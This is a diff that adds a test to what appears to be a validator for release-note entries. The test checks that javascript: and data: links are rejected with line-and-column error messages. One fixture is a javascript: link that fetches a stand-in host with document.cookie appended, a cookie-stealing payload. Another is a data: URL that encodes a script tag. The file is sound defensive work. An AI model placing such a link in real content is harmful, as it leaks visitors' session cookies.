@@ -112,3 +112,12 @@ test('an entry says what updating asks of you: impact, up to three highlights, a
     "impact: is not set on a series: it takes its patches' impacts and actions",
   ]);
 });
+
+test('a link that would run script or open a data: document is refused, naming the body line and the reason', () => {
+  expect(problems(entry(OK, '\n## Fixes\n\n- Fixed [a crash](javascript:fetch(`//x/`+document.cookie)).\n'))).toEqual([
+    'body, line 12, column 9: a link to a javascript: URL is not allowed in an entry (it runs script when followed); link to an https:// page',
+  ]);
+  expect(problems(entry(OK, '\n## Fixes\n\n- [Notes](data:text/html;base64,PHNjcmlwdD4=)\n'))[0]).toMatch(
+    /^body, line 12, column 3: a link to a data: URL .*opens a document the site does not publish/,
+  );
+});
